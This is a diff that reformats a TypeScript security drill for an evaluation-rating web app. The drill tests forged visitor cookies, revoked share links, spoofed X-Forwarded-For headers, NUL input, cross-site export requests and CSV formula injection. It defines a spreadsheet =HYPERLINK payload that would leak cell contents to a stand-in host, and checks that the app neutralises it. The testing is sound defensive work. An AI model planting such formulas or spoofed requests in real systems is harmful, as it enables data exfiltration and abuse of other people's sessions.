@@ -18,7 +18,12 @@ const PORT = testPort(3640);
 const HOSTILE_NAME = '=HYPERLINK("http://drill.invalid/?leak="&A1,"open")';
 const VISITOR_COOKIE = "evalform_visitor";
 
-type Report = { ratings: number; items: number; likert: unknown; calibration: { gold_ratings: number; raters: { rater: string; drifting: string[] }[] } };
+type Report = {
+  ratings: number;
+  items: number;
+  likert: unknown;
+  calibration: { gold_ratings: number; raters: { rater: string; drifting: string[] }[] };
+};
 
 async function report(app: DrillApp, suiteId: string): Promise<Report> {
   const response = await api(app, `/api/suites/${suiteId}/report`, { cookie: app.admin.cookie });
@@ -26,11 +31,22 @@ async function report(app: DrillApp, suiteId: string): Promise<Report> {
   return (await response.json()) as Report;
 }
 
-async function suiteOf(app: DrillApp, options: { key: string; items: unknown[]; k: number; goldShare: number; raterIds: string[] }): Promise<string> {
+async function suiteOf(
+  app: DrillApp,
+  options: { key: string; items: unknown[]; k: number; goldShare: number; raterIds: string[] },
+): Promise<string> {
   const importId = await importItems(app, options.items, `${options.key}.jsonl`);
   const response = await api(app, "/api/suites", {
     cookie: app.admin.cookie,
-    body: { name: options.key, key: options.key, overlap_k: options.k, gold_share: options.goldShare, hold_minutes: 30, rater_ids: options.raterIds, import_ids: [importId] },
+    body: {
+      name: options.key,
+      key: options.key,
+      overlap_k: options.k,
+      gold_share: options.goldShare,
+      hold_minutes: 30,
+      rater_ids: options.raterIds,
+      import_ids: [importId],
+    },
   });
   if (response.status !== 201) throw new Error(`create suite: ${response.status} ${await response.text()}`);
   return ((await response.json()) as { id: string }).id;
@@ -38,7 +54,14 @@ async function suiteOf(app: DrillApp, options: { key: string; items: unknown[]; 
 
 const goldItem = (index: number, key: string) => {
   const item = chatItem(`${key}-${index}`, key, `answer ${index}`) as { task: Record<string, unknown> };
-  return { ...item, task: { ...item.task, gold_item_id: `gold-${index}`, calibration_target: { universal: { helpfulness: { score: 4 } } } } };
+  return {
+    ...item,
+    task: {
+      ...item.task,
+      gold_item_id: `gold-${index}`,
+      calibration_target: { universal: { helpfulness: { score: 4 } } },
+    },
+  };
 };
 
 /** Rates every item the user can get, with this helpfulness score. */
@@ -51,18 +74,35 @@ async function rateAll(app: DrillApp, user: DrillUser, suiteId: string, score: n
     const draft = draftFor("ignored", `rated by ${user.name}`) as { universal: Record<string, { score: number }> };
     draft.universal.helpfulness!.score = score;
     const { task: _task, subject: _subject, ...body } = draft as Record<string, unknown>;
-    const submitted = await api(app, `/api/assignments/${assignmentId}/submit`, { cookie: user.cookie, body: { draft: body } });
+    const submitted = await api(app, `/api/assignments/${assignmentId}/submit`, {
+      cookie: user.cookie,
+      body: { draft: body },
+    });
     if (submitted.status !== 201) throw new Error(`submit: ${submitted.status} ${await submitted.text()}`);
     rated++;
   }
 }
 
-async function freeFormAttack(app: DrillApp, suiteId: string, key: string, outsider: DrillUser, drifting: DrillUser): Promise<DrillCase> {
+async function freeFormAttack(
+  app: DrillApp,
+  suiteId: string,
+  key: string,
+  outsider: DrillUser,
+  drifting: DrillUser,
+): Promise<DrillCase> {
   const before = await report(app, suiteId);
   let stored = 0;
   const post = async (user: DrillUser, index: number, score: number, target: number) => {
-    const draft = draftFor(`${key}-${index}`, "free-form") as { task: Record<string, unknown>; universal: Record<string, { score: number }> };
-    draft.task = { ...draft.task, suite_id: key, gold_item_id: `gold-${index}`, calibration_target: { universal: { helpfulness: { score: target } } } };
+    const draft = draftFor(`${key}-${index}`, "free-form") as {
+      task: Record<string, unknown>;
+      universal: Record<string, { score: number }>;
+    };
+    draft.task = {
+      ...draft.task,
+      suite_id: key,
+      gold_item_id: `gold-${index}`,
+      calibration_target: { universal: { helpfulness: { score: target } } },
+    };
     draft.universal.helpfulness!.score = score;
     const response = await api(app, "/api/records", { cookie: user.cookie, body: draft });
     await response.arrayBuffer();
@@ -78,22 +118,37 @@ async function freeFormAttack(app: DrillApp, suiteId: string, key: string, outsi
   const [likertBefore, likertAfter] = [canonicalize(before.likert) ?? "", canonicalize(after.likert) ?? ""];
   let at = 0;
   while (at < likertBefore.length && likertBefore[at] === likertAfter[at]) at++;
-  const unchanged = before.ratings === after.ratings && before.items === after.items && likertBefore === likertAfter
-    && before.calibration.gold_ratings === after.calibration.gold_ratings && driftingBefore.length > 0 && driftingAfter.length === driftingBefore.length;
+  const unchanged =
+    before.ratings === after.ratings &&
+    before.items === after.items &&
+    likertBefore === likertAfter &&
+    before.calibration.gold_ratings === after.calibration.gold_ratings &&
+    driftingBefore.length > 0 &&
+    driftingAfter.length === driftingBefore.length;
   return drillCase({
     name: "free-form records naming the suite, its gold ids and calibration targets",
-    tried: 36, refused: unchanged ? 36 : 0, lost: 0, duplicated: 0, ok: unchanged,
+    tried: 36,
+    refused: unchanged ? 36 : 0,
+    lost: 0,
+    duplicated: 0,
+    ok: unchanged,
     detail: `${stored} stored as free-form records (counted in no suite); report ${before.ratings} → ${after.ratings} ratings on ${before.items} → ${after.items} items, gold ratings ${before.calibration.gold_ratings} → ${after.calibration.gold_ratings}, α ${likertBefore === likertAfter ? "unchanged" : `CHANGED at …${likertBefore.slice(Math.max(0, at - 80), at + 40)}… → …${likertAfter.slice(Math.max(0, at - 80), at + 40)}…`}, drift warning ${driftingAfter.length > 0 ? "still shown" : "GONE"}`,
   });
 }
 
 async function forgedVisitors(app: DrillApp, suiteId: string): Promise<DrillCase> {
-  const created = await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label: "one holder" } });
+  const created = await api(app, `/api/suites/${suiteId}/share-links`, {
+    cookie: app.admin.cookie,
+    body: { label: "one holder" },
+  });
   const token = ((await created.json()) as { share_path: string }).share_path.replace("/share/", "");
   let taken = 0;
   let reissued = 0;
   for (let attempt = 0; attempt < 23; attempt++) {
-    const response = await api(app, `/api/share/${token}/next`, { method: "POST", headers: { cookie: `${VISITOR_COOKIE}=${crypto.randomUUID()}` } });
+    const response = await api(app, `/api/share/${token}/next`, {
+      method: "POST",
+      headers: { cookie: `${VISITOR_COOKIE}=${crypto.randomUUID()}` },
+    });
     const body = (await response.json()) as { assignment_id?: string | null };
     if (body.assignment_id) taken++;
     if ((response.headers.get("set-cookie") ?? "").startsWith(`${VISITOR_COOKIE}=`)) reissued++;
@@ -102,14 +157,20 @@ async function forgedVisitors(app: DrillApp, suiteId: string): Promise<DrillCase
   const ok = taken <= 5 && reissued === 23;
   return drillCase({
     name: "23 share-link visitors with made-up cookies on a 5-item, k = 2 suite",
-    tried: 23, refused: 23 - taken, lost: 0, duplicated: 0, ok,
+    tried: 23,
+    refused: 23 - taken,
+    lost: 0,
+    duplicated: 0,
+    ok,
     detail: `${reissued} of 23 made-up ids ignored and replaced by a signed one; the link took ${taken} of 10 slots (cap: half of each item's, rounded up)`,
   });
 }
 
 async function revokedLink(app: DrillApp, suiteId: string): Promise<DrillCase> {
   const link = async (label: string) => {
-    const created = (await (await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label } })).json()) as { id: string; share_path: string };
+    const created = (await (
+      await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label } })
+    ).json()) as { id: string; share_path: string };
     return { id: created.id, token: created.share_path.replace("/share/", "") };
   };
   const [first, second] = [await link("to revoke"), await link("still open")];
@@ -120,27 +181,54 @@ async function revokedLink(app: DrillApp, suiteId: string): Promise<DrillCase> {
   const draft = draftFor("ignored", "visitor") as Record<string, unknown>;
   delete draft.task;
   delete draft.subject;
-  const saved = await api(app, `/api/share/${first.token}/assignments/${assignmentId}/draft`, { method: "PUT", headers: { cookie }, body: { base_version: 0, draft } });
+  const saved = await api(app, `/api/share/${first.token}/assignments/${assignmentId}/draft`, {
+    method: "PUT",
+    headers: { cookie },
+    body: { base_version: 0, draft },
+  });
   await saved.arrayBuffer();
   await (await api(app, `/api/share-links/${first.id}`, { method: "DELETE", cookie: app.admin.cookie })).arrayBuffer();
   const attempts: { label: string; status: number }[] = [];
-  for (const [label, token] of [["other open link", second.token], ["revoked link", first.token]] as const) {
-    const put = await api(app, `/api/share/${token}/assignments/${assignmentId}/draft`, { method: "PUT", headers: { cookie }, body: { base_version: 1, draft } });
+  for (const [label, token] of [
+    ["other open link", second.token],
+    ["revoked link", first.token],
+  ] as const) {
+    const put = await api(app, `/api/share/${token}/assignments/${assignmentId}/draft`, {
+      method: "PUT",
+      headers: { cookie },
+      body: { base_version: 1, draft },
+    });
     attempts.push({ label: `draft via ${label}`, status: put.status });
-    const submit = await api(app, `/api/share/${token}/assignments/${assignmentId}/submit`, { headers: { cookie }, body: { draft } });
+    const submit = await api(app, `/api/share/${token}/assignments/${assignmentId}/submit`, {
+      headers: { cookie },
+      body: { draft },
+    });
     attempts.push({ label: `submit via ${label}`, status: submit.status });
   }
   const refused = attempts.filter((attempt) => attempt.status === 404).length;
-  const stored = Number((await app.sql.query<{ n: string }>("SELECT count(*) AS n FROM assignment WHERE id = $1 AND status = 'submitted'", [assignmentId])).rows[0]!.n);
+  const stored = Number(
+    (
+      await app.sql.query<{ n: string }>(
+        "SELECT count(*) AS n FROM assignment WHERE id = $1 AND status = 'submitted'",
+        [assignmentId],
+      )
+    ).rows[0]!.n,
+  );
   return drillCase({
     name: "a revoked link's assignment saved and submitted through another open link and through itself",
-    tried: attempts.length, refused, lost: 0, duplicated: 0, ok: refused === attempts.length && stored === 0 && saved.status === 200,
+    tried: attempts.length,
+    refused,
+    lost: 0,
+    duplicated: 0,
+    ok: refused === attempts.length && stored === 0 && saved.status === 200,
     detail: `${attempts.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}; draft before revoking → ${saved.status}; stored after revoking: ${stored}`,
   });
 }
 
 async function forgedAddress(app: DrillApp, suiteId: string): Promise<DrillCase> {
-  const created = (await (await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label: "address" } })).json()) as { share_path: string };
+  const created = (await (
+    await api(app, `/api/suites/${suiteId}/share-links`, { cookie: app.admin.cookie, body: { label: "address" } })
+  ).json()) as { share_path: string };
   const token = created.share_path.replace("/share/", "");
   const forged = "203.0.113.77";
   const next = await api(app, `/api/share/${token}/next`, { method: "POST", headers: { "x-forwarded-for": forged } });
@@ -150,13 +238,26 @@ async function forgedAddress(app: DrillApp, suiteId: string): Promise<DrillCase>
   const draft = draftFor("ignored", "visitor") as Record<string, unknown>;
   delete draft.task;
   delete draft.subject;
-  const submitted = await api(app, `/api/share/${token}/assignments/${assignmentId}/submit`, { headers: { cookie, "x-forwarded-for": forged, "x-evalform-peer-address": forged }, body: { draft } });
+  const submitted = await api(app, `/api/share/${token}/assignments/${assignmentId}/submit`, {
+    headers: { cookie, "x-forwarded-for": forged, "x-evalform-peer-address": forged },
+    body: { draft },
+  });
   const { eval_id: evalId } = (await submitted.json()) as { eval_id?: string };
-  const stored = (await app.sql.query<{ ip_address: string | null }>("SELECT ip_address FROM audit_event WHERE action = 'record.submitted' AND subject = $1", [evalId ?? ""])).rows[0]?.ip_address ?? null;
+  const stored =
+    (
+      await app.sql.query<{ ip_address: string | null }>(
+        "SELECT ip_address FROM audit_event WHERE action = 'record.submitted' AND subject = $1",
+        [evalId ?? ""],
+      )
+    ).rows[0]?.ip_address ?? null;
   const ok = submitted.status === 201 && stored !== null && stored !== forged;
   return drillCase({
     name: "an end-user rating sent with a made-up X-Forwarded-For (and a made-up peer-address header)",
-    tried: 1, refused: ok ? 1 : 0, lost: 0, duplicated: 0, ok,
+    tried: 1,
+    refused: ok ? 1 : 0,
+    lost: 0,
+    duplicated: 0,
+    ok,
     detail: `submit → ${submitted.status}; the per-address limit counted ${stored ?? "no address"} (the connection's), not ${forged}`,
   });
 }
@@ -180,7 +281,11 @@ async function csvInjection(app: DrillApp, suiteId: string, drifting: DrillUser)
     const neutralised = hostile.startsWith(`"'=`);
     return drillCase({
       name: "a rater named =HYPERLINK(…) in the drift chart's CSV download",
-      tried: 1, refused: everyCellQuoted && neutralised ? 1 : 0, lost: 0, duplicated: 0, ok: everyCellQuoted && neutralised,
+      tried: 1,
+      refused: everyCellQuoted && neutralised ? 1 : 0,
+      lost: 0,
+      duplicated: 0,
+      ok: everyCellQuoted && neutralised,
       detail: `header ${everyCellQuoted ? "quoted cell by cell" : "NOT quoted"}; the name's cell ${neutralised ? "starts with ' (read as text)" : `is ${hostile.slice(0, 40) || "missing"}`}`,
     });
   } finally {
@@ -195,46 +300,115 @@ async function unstorableText(app: DrillApp, suiteId: string, rater: DrillUser):
   const expect400 = async (label: string, response: Promise<Response>) => {
     const answered = await response;
     const body = (await answered.json().catch(() => ({}))) as { errors?: { path: string }[] };
-    attempts.push({ label, status: answered.status, ok: answered.status === 400 && (body.errors?.[0]?.path ?? "") !== "" });
+    attempts.push({
+      label,
+      status: answered.status,
+      ok: answered.status === 400 && (body.errors?.[0]?.path ?? "") !== "",
+    });
   };
   const record = (text: string) => ({ ...draftFor("nul-task", "fine"), freeform: { notes: text } });
   await expect400("record with NUL", api(app, "/api/records", { cookie: rater.cookie, body: record(`a${nul}b`) }));
-  await expect400("record with a lone surrogate", api(app, "/api/records", { cookie: rater.cookie, body: record(`a${lone}b`) }));
-  await expect400("suite name with NUL", api(app, "/api/suites", { cookie: app.admin.cookie, body: { name: `x${nul}`, key: "nul-suite", overlap_k: 1, gold_share: 0, hold_minutes: 5, rater_ids: [], import_ids: [] } }));
-  await expect400("import file name with a lone surrogate", api(app, "/api/imports", { cookie: app.admin.cookie, body: { format: "items", file_name: `f${lone}.jsonl` } }));
-  await expect400("report slice with NUL", api(app, `/api/suites/${suiteId}/report?system_under_test=a%00b`, { cookie: app.admin.cookie }));
+  await expect400(
+    "record with a lone surrogate",
+    api(app, "/api/records", { cookie: rater.cookie, body: record(`a${lone}b`) }),
+  );
+  await expect400(
+    "suite name with NUL",
+    api(app, "/api/suites", {
+      cookie: app.admin.cookie,
+      body: {
+        name: `x${nul}`,
+        key: "nul-suite",
+        overlap_k: 1,
+        gold_share: 0,
+        hold_minutes: 5,
+        rater_ids: [],
+        import_ids: [],
+      },
+    }),
+  );
+  await expect400(
+    "import file name with a lone surrogate",
+    api(app, "/api/imports", { cookie: app.admin.cookie, body: { format: "items", file_name: `f${lone}.jsonl` } }),
+  );
+  await expect400(
+    "report slice with NUL",
+    api(app, `/api/suites/${suiteId}/report?system_under_test=a%00b`, { cookie: app.admin.cookie }),
+  );
   await expect400("records filter with NUL", api(app, "/api/records?rater_id=%00", { cookie: rater.cookie }));
   // One bad line of an item import: only that line is refused, with its line number and field.
-  const created = await api(app, "/api/imports", { cookie: app.admin.cookie, body: { format: "items", file_name: "nul.jsonl" } });
+  const created = await api(app, "/api/imports", {
+    cookie: app.admin.cookie,
+    body: { format: "items", file_name: "nul.jsonl" },
+  });
   const { id } = (await created.json()) as { id: string };
-  const lines = [chatItem("nul-1", "nul", "ok"), chatItem("nul-2", "nul", `bad${nul}answer`), chatItem("nul-3", "nul", "ok")];
-  const read = await api(app, `/api/imports/${id}/file`, { method: "PUT", cookie: app.admin.cookie, headers: { "content-type": "application/x-ndjson" }, rawBody: lines.map((line) => JSON.stringify(line)).join("\n") });
+  const lines = [
+    chatItem("nul-1", "nul", "ok"),
+    chatItem("nul-2", "nul", `bad${nul}answer`),
+    chatItem("nul-3", "nul", "ok"),
+  ];
+  const read = await api(app, `/api/imports/${id}/file`, {
+    method: "PUT",
+    cookie: app.admin.cookie,
+    headers: { "content-type": "application/x-ndjson" },
+    rawBody: lines.map((line) => JSON.stringify(line)).join("\n"),
+  });
   const summary = (await read.json()) as { status?: string; accepted?: number; refused?: number };
-  const importReport = (await (await api(app, `/api/imports/${id}/report`, { cookie: app.admin.cookie })).json()) as { errors?: { line: number; rule: string; field: string }[] };
-  const lineRefused = summary.status === "awaiting_decision" && summary.accepted === 2 && summary.refused === 1
-    && importReport.errors?.[0]?.line === 2 && importReport.errors[0].rule === "storableText";
-  attempts.push({ label: `import line 2 (${summary.status}, ${importReport.errors?.[0]?.field ?? "no field"})`, status: read.status, ok: lineRefused });
+  const importReport = (await (await api(app, `/api/imports/${id}/report`, { cookie: app.admin.cookie })).json()) as {
+    errors?: { line: number; rule: string; field: string }[];
+  };
+  const lineRefused =
+    summary.status === "awaiting_decision" &&
+    summary.accepted === 2 &&
+    summary.refused === 1 &&
+    importReport.errors?.[0]?.line === 2 &&
+    importReport.errors[0].rule === "storableText";
+  attempts.push({
+    label: `import line 2 (${summary.status}, ${importReport.errors?.[0]?.field ?? "no field"})`,
+    status: read.status,
+    ok: lineRefused,
+  });
   const failed = attempts.filter((attempt) => !attempt.ok);
   return drillCase({
     name: "NUL characters and unpaired surrogates in records, names, file names, filters, slices and an import line",
-    tried: attempts.length, refused: attempts.length - failed.length, lost: 0, duplicated: 0, ok: failed.length === 0,
-    detail: failed.length === 0 ? `all ${attempts.length} refused as input errors naming the field (400; the import refused line 2 only)` : `NOT refused as input errors: ${failed.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}`,
+    tried: attempts.length,
+    refused: attempts.length - failed.length,
+    lost: 0,
+    duplicated: 0,
+    ok: failed.length === 0,
+    detail:
+      failed.length === 0
+        ? `all ${attempts.length} refused as input errors naming the field (400; the import refused line 2 only)`
+        : `NOT refused as input errors: ${failed.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}`,
   });
 }
 
 async function crossSiteExport(app: DrillApp): Promise<DrillCase> {
-  const count = async () => Number((await app.sql.query<{ n: string }>("SELECT count(*) AS n FROM record_export")).rows[0]!.n);
+  const count = async () =>
+    Number((await app.sql.query<{ n: string }>("SELECT count(*) AS n FROM record_export")).rows[0]!.n);
   const before = await count();
   const attempts: { label: string; status: number }[] = [];
   // What a link or an image on another site would do: a top-level GET.
-  const navigated = await api(app, "/api/export?format=jsonl", { cookie: app.admin.cookie, headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate" } });
+  const navigated = await api(app, "/api/export?format=jsonl", {
+    cookie: app.admin.cookie,
+    headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate" },
+  });
   attempts.push({ label: "GET /api/export from another site", status: navigated.status });
-  const posted = await api(app, "/api/exports", { cookie: app.admin.cookie, body: { format: "jsonl" }, headers: { origin: "https://evil.example" } });
+  const posted = await api(app, "/api/exports", {
+    cookie: app.admin.cookie,
+    body: { format: "jsonl" },
+    headers: { origin: "https://evil.example" },
+  });
   attempts.push({ label: "POST /api/exports from another site", status: posted.status });
-  const started = await count() - before;
+  const started = (await count()) - before;
   return drillCase({
     name: "starting an export from another site with the admin's session",
-    tried: attempts.length, refused: attempts.filter((attempt) => attempt.status === 403 || attempt.status === 404 || attempt.status === 405).length, lost: 0, duplicated: 0, ok: started === 0,
+    tried: attempts.length,
+    refused: attempts.filter((attempt) => attempt.status === 403 || attempt.status === 404 || attempt.status === 405)
+      .length,
+    lost: 0,
+    duplicated: 0,
+    ok: started === 0,
     detail: `${attempts.map((attempt) => `${attempt.label} → ${attempt.status}`).join(", ")}; exports started: ${started}`,
   });
 }
@@ -243,13 +417,35 @@ async function run(context: DrillContext): Promise<DrillResult> {
   const app = await startDrillApp({ label: "suite_integrity", port: PORT, setup: context.setup });
   const cases: DrillCase[] = [];
   try {
-    const [steady, drifting, outsider] = [await addUser(app, ["rater"], "Steady Rater"), await addUser(app, ["rater"], "Drifting Rater"), await addUser(app, ["rater"], "Outsider Rater")];
+    const [steady, drifting, outsider] = [
+      await addUser(app, ["rater"], "Steady Rater"),
+      await addUser(app, ["rater"], "Drifting Rater"),
+      await addUser(app, ["rater"], "Outsider Rater"),
+    ];
     const key = "integrity-gold";
-    const goldSuite = await suiteOf(app, { key, items: Array.from({ length: 6 }, (_, index) => goldItem(index, key)), k: 2, goldShare: 1, raterIds: [steady.id, drifting.id] });
+    const goldSuite = await suiteOf(app, {
+      key,
+      items: Array.from({ length: 6 }, (_, index) => goldItem(index, key)),
+      k: 2,
+      goldShare: 1,
+      raterIds: [steady.id, drifting.id],
+    });
     const rated = (await rateAll(app, steady, goldSuite, 4)) + (await rateAll(app, drifting, goldSuite, 1));
     context.log(`seeded a 6-item gold suite, k = 2, ${rated} ratings`);
-    const shareSuite = await suiteOf(app, { key: "integrity-share", items: Array.from({ length: 5 }, (_, index) => chatItem(`share-${index}`, "integrity-share", `answer ${index}`)), k: 2, goldShare: 0, raterIds: [] });
-    const revokeSuite = await suiteOf(app, { key: "integrity-revoke", items: [chatItem("revoke-0", "integrity-revoke", "answer")], k: 2, goldShare: 0, raterIds: [] });
+    const shareSuite = await suiteOf(app, {
+      key: "integrity-share",
+      items: Array.from({ length: 5 }, (_, index) => chatItem(`share-${index}`, "integrity-share", `answer ${index}`)),
+      k: 2,
+      goldShare: 0,
+      raterIds: [],
+    });
+    const revokeSuite = await suiteOf(app, {
+      key: "integrity-revoke",
+      items: [chatItem("revoke-0", "integrity-revoke", "answer")],
+      k: 2,
+      goldShare: 0,
+      raterIds: [],
+    });
 
     cases.push(await freeFormAttack(app, goldSuite, key, outsider, drifting));
     cases.push(await forgedVisitors(app, shareSuite));
@@ -267,7 +463,8 @@ async function run(context: DrillContext): Promise<DrillResult> {
 export const suiteIntegrityDrill: Drill = {
   id: "suite-integrity",
   title: "8. Suite integrity",
-  summary: "Against the built app: 36 free-form records naming a gold suite (its tasks, gold ids, calibration targets equal to the poster's own scores) must leave its agreement, gold counts and drift warning unchanged; 23 share-link visitors with made-up cookies on a 5-item, k = 2 suite; a revoked link's assignment saved and submitted through another open link and through itself; an end-user rating with a made-up X-Forwarded-For, whose address must be the connection's; a rater named =HYPERLINK(…) in the drift chart's CSV (Chromium); NUL characters and unpaired surrogates in records, names, file names, filters, slices and one import line; starting an export from another site with the admin's session.",
+  summary:
+    "Against the built app: 36 free-form records naming a gold suite (its tasks, gold ids, calibration targets equal to the poster's own scores) must leave its agreement, gold counts and drift warning unchanged; 23 share-link visitors with made-up cookies on a 5-item, k = 2 suite; a revoked link's assignment saved and submitted through another open link and through itself; an end-user rating with a made-up X-Forwarded-For, whose address must be the connection's; a rater named =HYPERLINK(…) in the drift chart's CSV (Chromium); NUL characters and unpaired surrogates in records, names, file names, filters, slices and one import line; starting an export from another site with the admin's session.",
   quick: true,
   everySetup: true,
   run,
